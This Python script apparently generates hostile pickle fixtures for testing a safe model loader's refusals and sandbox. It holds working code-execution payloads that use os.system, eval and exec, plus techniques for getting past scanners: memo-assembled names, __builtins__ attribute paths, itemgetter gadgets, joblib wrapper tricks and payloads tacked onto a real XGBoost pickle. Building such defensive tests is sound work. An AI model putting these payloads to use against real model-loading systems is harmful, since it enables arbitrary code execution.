"""Writes hostile pickles into OUT_DIR, each of whose payload creates MARKER_DIR/<name> when it runs.

    python3 hostile_pickles.py OUT_DIR MARKER_DIR [--verify] [--victim PATH] [--port PORT]

Prints a JSON list of {name, file, expect, live}: `expect` is a phrase the refusal must contain
(usually the global), `live` whether plain joblib.load runs the payload. With --verify, every live
payload is loaded with plain joblib.load in this process (cwd OUT_DIR) and `verified` says whether
its marker appeared, so the suite knows each payload would really have run; markers are then removed.
--victim adds a payload that copies that file (another model's blob) next to the markers, --port one
that connects to 127.0.0.1:PORT; the sandbox must stop both.
"""
import io
import json
import os
import pathlib
import pickle
import struct
import sys
import time

PROTO4 = b"\x80\x04"
STACK_GLOBAL, REDUCE, TUPLE1, TUPLE2, STOP, MEMOIZE, POP = b"\x93", b"R", b"\x85", b"\x86", b".", b"\x94", b"0"
EMPTY_DICT, EMPTY_TUPLE, MARK, SETITEMS, BUILD, NEWOBJ, NONE = b"}", b")", b"(", b"u", b"b", b"\x81", b"N"


def su(s):
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def sg(module, name):
    return su(module) + su(name) + STACK_GLOBAL


def binint(n):
    return b"J" + struct.pack("<i", n)


def write_code(marker):
    return f"open({marker!r}, 'w').write('ran')"


def call(callable_ops, *arg_ops):
    if len(arg_ops) == 1:
        return callable_ops + arg_ops[0] + TUPLE1 + REDUCE
    if len(arg_ops) == 2:
        return callable_ops + arg_ops[0] + arg_ops[1] + TUPLE2 + REDUCE
    return callable_ops + MARK + b"".join(arg_ops) + b"t" + REDUCE


def through_getter(getter_ops, fn, code):
    """getter('eval' | 'exec') returns the builtin, which is then called with the code."""
    return call(call(getter_ops, su(fn)), su(code))


def dtype_ops(code, flags=0, elsize=-1):
    state = MARK + binint(3) + su("<") + NONE + NONE + NONE + binint(elsize) + binint(-1) + binint(flags) + b"t"
    return call(sg("numpy", "dtype"), su(code), b"\x89", b"\x88") + state + BUILD


def wrapper(extra_state_ops, dtype, shape_ops, data, subclass=("numpy", "ndarray"),
            cls=("joblib.numpy_pickle", "NumpyArrayWrapper")):
    state = (EMPTY_DICT + MARK + su("subclass") + sg(*subclass) + su("shape") + shape_ops + su("order") + su("C")
             + su("dtype") + dtype + su("allow_mmap") + b"\x89" + extra_state_ops + SETITEMS)
    return sg(*cls) + EMPTY_TUPLE + NEWOBJ + state + BUILD + data


def payloads(out, marker_dir):
    m = lambda name: os.path.join(marker_dir, name)  # noqa: E731
    code = lambda name: write_code(m(name))  # noqa: E731
    p = {}
    # Plain code execution.
    p["os-system"] = (b"cos\nsystem\n(S'touch " + m("os-system").encode() + b"'\ntR.", "os.system", True)
    p["posix-system"] = (PROTO4 + call(sg("posix", "system"), su("touch " + m("posix-system"))) + STOP, "posix.system", True)
    p["subprocess-popen"] = (PROTO4 + call(sg("subprocess", "Popen"), b"]" + MARK + su("touch") + su(m("subprocess-popen")) + b"e") + STOP,
                             "subprocess.Popen", True)
    p["builtins-eval"] = (PROTO4 + call(sg("builtins", "eval"), su(code("builtins-eval"))) + STOP, "builtins.eval", True)
    p["builtins-exec-py2-name"] = (b"\x80\x02c__builtin__\nexec\n" + su(code("builtins-exec-py2-name")) + TUPLE1 + REDUCE + STOP,
                                   "builtins.exec", True)
    p["builtins-getattr"] = (PROTO4 + call(sg("builtins", "getattr"), sg("numpy", "ndarray"), su("__name__")) + STOP, "builtins.getattr", False)
    # Listed names used against the list's rules: a constructor that reads a file, attributes set on a class.
    other_model = pathlib.Path(__file__).resolve().parents[1] / "fixtures/models/xgboost-regressor-diabetes-json/model.json"
    p["booster-reads-file"] = (PROTO4 + call(sg("xgboost.core", "Booster"), NONE, NONE, su(str(other_model))) + STOP,
                               "calls xgboost.core.Booster", False)
    p["build-on-class"] = (PROTO4 + sg("sklearn.linear_model._logistic", "LogisticRegression") + EMPTY_DICT + su("predict") + sg("builtins", "set")
                           + b"s" + BUILD + STOP, "sets attributes on sklearn.linear_model._logistic.LogisticRegression", False)
    # Names assembled through memo entries.
    p["memo-memoize"] = (PROTO4 + su("builtins") + MEMOIZE + POP + su("eval") + MEMOIZE + POP + su("numpy") + su("ndarray") + POP + POP
                         + b"h\x00h\x01" + STACK_GLOBAL + su(code("memo-memoize")) + TUPLE1 + REDUCE + STOP, "builtins.eval", True)
    p["memo-text-put-get"] = (PROTO4 + b"Vbuiltins\np7\n0Veval\np8\n0g7\ng8\n" + STACK_GLOBAL + su(code("memo-text-put-get")) + TUPLE1 + REDUCE + STOP,
                              "builtins.eval", True)
    p["memo-overwritten"] = (PROTO4 + su("numpy") + b"q\x00" + POP + su("builtins") + b"q\x00" + POP + su("eval") + b"r\xe8\x03\x00\x00" + POP
                             + b"h\x00j\xe8\x03\x00\x00" + STACK_GLOBAL + su(code("memo-overwritten")) + TUPLE1 + REDUCE + STOP, "builtins.eval", True)
    p["memo-string-escapes"] = (PROTO4 + b"S'\\x62uiltins'\n" + su("eval") + STACK_GLOBAL + su(code("memo-string-escapes")) + TUPLE1 + REDUCE + STOP,
                                "not a plain string", True)
    # Attribute paths that walk from an allowed module or class to builtins.
    p["numpy-builtins-get"] = (PROTO4 + through_getter(sg("numpy", "__builtins__.get"), "eval", code("numpy-builtins-get")) + STOP,
                               "numpy.__builtins__.get", True)
    p["numpy-core-dotted"] = (PROTO4 + through_getter(sg("numpy.core.multiarray", "__builtins__.get"), "eval", code("numpy-core-dotted")) + STOP,
                              "numpy.core.multiarray.__builtins__.get", True)
    p["collections-exec"] = (PROTO4 + through_getter(sg("collections", "__builtins__.get"), "exec", code("collections-exec")) + STOP,
                             "collections.__builtins__.get", True)
    p["sklearn-getitem"] = (PROTO4 + through_getter(sg("sklearn.base", "__builtins__.__getitem__"), "eval", code("sklearn-getitem")) + STOP,
                            "sklearn.base.__builtins__.__getitem__", True)
    p["sklearn-class-path"] = (PROTO4 + through_getter(sg("sklearn.linear_model._logistic", "LogisticRegression.__init__.__builtins__.get"), "eval",
                                                       code("sklearn-class-path")) + STOP,
                               "sklearn.linear_model._logistic.LogisticRegression.__init__.__builtins__.get", True)
    p["collections-itemgetter"] = (PROTO4 + call(call(call(sg("collections", "_itemgetter"), su("eval")), sg("collections", "__builtins__")),
                                                 su(code("collections-itemgetter"))) + STOP, "collections._itemgetter", True)
    p["operator-itemgetter"] = (PROTO4 + call(call(call(sg("operator", "itemgetter"), su("eval")), sg("numpy", "__builtins__")),
                                              su(code("operator-itemgetter"))) + STOP, "operator.itemgetter", True)
    p["operator-attrgetter"] = (PROTO4 + call(call(call(sg("operator", "attrgetter"), su("__self__.eval")), sg("builtins", "print")),
                                              su(code("operator-attrgetter"))) + STOP, "operator.attrgetter", True)
    # Allowed libraries' functions with side effects.
    p["joblib-dump"] = (PROTO4 + call(sg("joblib", "dump"), su("x"), su(m("joblib-dump"))) + STOP, "joblib.dump", True)
    p["joblib-numpy-pickle-dump"] = (PROTO4 + call(sg("joblib.numpy_pickle", "dump"), su("x"), su(m("joblib-numpy-pickle-dump"))) + STOP,
                                     "joblib.numpy_pickle.dump", True)
    sparse = call(sg("scipy.sparse._csr", "csr_matrix"), binint(2) + binint(2) + TUPLE2)
    p["scipy-save-npz"] = (PROTO4 + sg("scipy.sparse", "save_npz") + su(m("scipy-save-npz.npz")) + sparse + TUPLE2 + REDUCE + STOP,
                           "scipy.sparse.save_npz", True)
    p["numpy-save"] = (PROTO4 + call(sg("numpy", "save"), su(m("numpy-save.npy")), binint(1)) + STOP, "numpy.save", True)
    # joblib array wrappers that reach another file, or that make joblib read bytes a scanner would skip.
    second = out / "hostile-second.pkl"
    second.write_bytes(PROTO4 + call(sg("builtins", "eval"), su(code("ndarraywrapper-relative"))) + STOP)
    absolute_second = out / "hostile-second-absolute.pkl"
    absolute_second.write_bytes(PROTO4 + call(sg("builtins", "eval"), su(code("ndarraywrapper-absolute"))) + STOP)
    compat = ("joblib.numpy_pickle_compat", "NDArrayWrapper")
    for name, filename in [("ndarraywrapper-absolute", str(absolute_second)), ("ndarraywrapper-relative", second.name)]:
        state = EMPTY_DICT + MARK + su("filename") + su(filename) + su("subclass") + sg("numpy", "ndarray") + su("allow_mmap") + b"\x89" + SETITEMS
        p[name] = (PROTO4 + sg(*compat) + EMPTY_TUPLE + NEWOBJ + state + BUILD + STOP, "joblib.numpy_pickle_compat.NDArrayWrapper", True)
    data = struct.pack("<2d", 1.0, 2.0)
    shape = binint(2) + TUPLE1
    for name, filename in [("numpyarraywrapper-filename-absolute", str(absolute_second)), ("numpyarraywrapper-filename-relative", second.name)]:
        p[name] = (PROTO4 + wrapper(su("filename") + su(filename), dtype_ops("f8"), shape, data) + STOP, "attribute 'filename'", False)
    p["numpyarraywrapper-memmap"] = (PROTO4 + wrapper(b"", dtype_ops("f8"), shape, data, subclass=("numpy", "memmap")) + STOP, "numpy.memmap", False)
    # A float dtype whose flags claim objects: joblib reads a nested pickle where a size-based scan skips 8*n bytes.
    nested_code = code("numpyarraywrapper-object-flag")
    nested = PROTO4 + call(sg("builtins", "eval"), su(nested_code)) + STOP
    nested = PROTO4 + call(sg("builtins", "eval"), su(nested_code + " " * ((8 - len(nested) % 8) % 8))) + STOP
    p["numpyarraywrapper-object-flag"] = (PROTO4 + wrapper(b"", dtype_ops("f8", flags=63), binint(len(nested) // 8) + TUPLE1, nested) + STOP,
                                          "flags say it holds Python objects", True)
    # A real XGBoost pickle with a payload after it, and with its STOP replaced by a payload.
    xgb = (pathlib.Path(__file__).resolve().parents[1] / "fixtures/models/xgboost-binary-breast-cancer-pkl/model.pkl").read_bytes()
    tail = PROTO4 + through_getter(sg("numpy", "__builtins__.get"), "eval", code("xgboost-appended")) + STOP
    p["xgboost-appended"] = (xgb + tail, "bytes after the end of its pickle", False)
    body = xgb[:-1] + POP + through_getter(sg("numpy", "__builtins__.get"), "eval", code("xgboost-stop-replaced")) + STOP
    p["xgboost-stop-replaced"] = (body, "numpy.__builtins__.get", True)
    victim, port = _option("--victim"), _option("--port")
    if victim:
        # Reads another model's blob and copies it next to the markers.
        read = f"(lambda data: open({m('sandbox-read-blob')!r}, 'wb').write(data))(open({victim!r}, 'rb').read())"
        p["sandbox-read-blob"] = (PROTO4 + call(sg("builtins", "eval"), su(read)) + STOP, "builtins.eval", True)
    if port:
        connect = f"__import__('socket').create_connection(('127.0.0.1', {int(port)}), 2).sendall(b'ran') or open({m('sandbox-connect')!r}, 'w').write('ran')"
        p["sandbox-connect"] = (PROTO4 + call(sg("builtins", "eval"), su(connect)) + STOP, "builtins.eval", True)
    return p


def _option(name):
    return sys.argv[sys.argv.index(name) + 1] if name in sys.argv else None


def verify(out, marker_dir, cases):
    import joblib
    os.chdir(out)
    for c in cases:
        if not c["live"]:
            continue
        try:
            joblib.load(c["file"])
        except Exception:
            pass
    time.sleep(0.3)  # Popen's child
    for c in cases:
        if c["live"]:
            markers = [f for f in os.listdir(marker_dir) if f.startswith(c["name"])]
            c["verified"] = any(f in (c["name"], c["name"] + ".npz", c["name"] + ".npy") for f in markers)
    for f in os.listdir(marker_dir):
        os.remove(os.path.join(marker_dir, f))


def main():
    out, marker_dir = pathlib.Path(sys.argv[1]), sys.argv[2]
    cases = []
    for name, (data, expect, live) in payloads(out, marker_dir).items():
        path = out / f"{name}.pkl"
        path.write_bytes(data)
        cases.append({"name": name, "file": str(path), "expect": expect, "live": live})
    if "--verify" in sys.argv[3:]:
        verify(out, marker_dir, cases)
    print(json.dumps(cases))


if __name__ == "__main__":
    main()
